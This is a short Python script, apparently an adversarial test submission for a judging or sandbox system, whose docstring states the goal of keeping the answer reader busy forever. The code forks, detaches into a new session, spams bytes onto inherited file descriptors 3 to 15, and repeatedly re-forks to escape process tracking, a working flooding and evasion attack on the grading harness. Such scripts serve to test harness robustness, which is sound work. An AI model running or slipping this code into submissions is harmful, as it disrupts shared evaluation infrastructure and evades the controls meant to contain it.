"""Goal: keep whoever reads the answers busy forever, with packets that are no answer, from ever new processes.

Expected: the submission ends in time; the attacker may lose others.
"""
# group: hurt
# costs: all
import os, time
if os.fork() == 0:
    os.setsid()
    while True:
        while time.process_time() < 0.5:
            for number in range(3, 16):
                try:
                    os.set_blocking(number, False)
                    os.write(number, b"d")
                except OSError:
                    pass
        if os.fork():
            os._exit(0)
